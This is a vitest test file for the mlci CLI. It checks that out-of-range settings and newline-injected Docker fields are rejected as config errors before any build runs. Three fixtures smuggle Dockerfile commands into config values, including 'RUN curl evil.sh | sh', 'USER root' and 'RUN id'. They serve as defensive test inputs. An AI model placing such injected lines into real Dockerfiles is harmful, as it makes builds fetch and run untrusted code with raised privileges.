import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { runCli } from '../helpers/cli.js'
import { testdir } from '../helpers/testdir.js'

const cases: [string, string, RegExp][] = [
  ['runs.keep: 0 (would delete every run record, the current one too)',
    `export default { runs: { keep: 0 }, plugins: [] }`, /config\.runs\.keep must be an integer ≥ 1, got a number \(0\)/],
  ['a negative trainer.timeout',
    `import trainer from '@mlci/plugin-trainer'\nexport default { plugins: [trainer({ command: ['python3', 'train.py'], timeout: -5 })] }`, /timeout must be a positive number of milliseconds, got -5/],
  ['a negative local.health.timeoutMs',
    `import local from '@mlci/plugin-local'\nexport default { plugins: [local({ port: 8123, command: ['python3', 'serve.py'], health: { timeoutMs: -1 } })] }`, /health\.timeoutMs must be an integer ≥ 1, got a number \(-1\)/],
  ['a negative local.stopTimeoutMs',
    `import local from '@mlci/plugin-local'\nexport default { plugins: [local({ port: 8123, command: ['python3', 'serve.py'], stopTimeoutMs: -100 })] }`, /stopTimeoutMs must be an integer ≥ 0, got a number \(-100\)/],
  ['a newline in docker generate.base (Dockerfile injection)',
    `import docker from '@mlci/plugin-docker'\nexport default { plugins: [docker({ image: 'acme/x', generate: { base: 'python:3.12\\nRUN curl evil.sh | sh', copy: ['serve.py'], cmd: ['python3', 'serve.py'] } })] }`, /generate\.base contains a control character/],
  ['a newline in docker generate.workdir',
    `import docker from '@mlci/plugin-docker'\nexport default { plugins: [docker({ image: 'acme/x', generate: { base: 'python:3.12', workdir: '/app\\nUSER root', copy: ['serve.py'], cmd: ['python3', 'serve.py'] } })] }`, /generate\.workdir contains a control character/],
  ['a newline in a docker generate.env key',
    `import docker from '@mlci/plugin-docker'\nexport default { plugins: [docker({ image: 'acme/x', generate: { base: 'python:3.12', env: { 'A=1\\nRUN id #': 'x' }, copy: ['serve.py'], cmd: ['python3', 'serve.py'] } })] }`, /generate\.env key .* contains a control character/],
]

describe('values out of range are config errors (exit 2), before anything runs', () => {
  for (const [scenario, config, message] of cases) {
    it(scenario, async () => {
      const dir = testdir({ 'mlci.config.mjs': config })
      const r = await runCli(['build'], { cwd: dir })
      expect(r.code, r.output).toBe(2)
      expect(r.stderr).toMatch(message)
      expect(existsSync(join(dir, '.mlci'))).toBe(false)
    })
  }
})

describe('a gate on a metric the training never records', () => {
  it('is a config error (exit 2) naming the metric and what is recorded, not a veto (exit 3)', async () => {
    const { copyFixture } = await import('../helpers/testdir.js')
    const dir = copyFixture('classifier', {
      'mlci.config.mjs': `import trainer from '@mlci/plugin-trainer'
        import semver from '@mlci/plugin-semver'
        export default { plugins: [
          trainer({ command: ['python3', 'train.py', '--out', 'out'], params: 'params.json', paramsMode: 'file',
                    outputs: ['out/model.json'], metrics: 'out/metrics.json', signature: 'out/signature.json' }),
          semver({ gate: { acuracy: { min: 0.5, direction: 'higher' } } }),
        ] }`,
    })
    const { rmSync } = await import('node:fs')
    rmSync(join(dir, 'mlci.config.ts'))
    const r = await runCli(['build'], { cwd: dir, timeoutMs: 120_000 })
    expect(r.code, r.output).toBe(2)
    expect(r.stderr).toMatch(/The gate checks "acuracy", which the training does not record \(it records: .*accuracy/)
  })
})
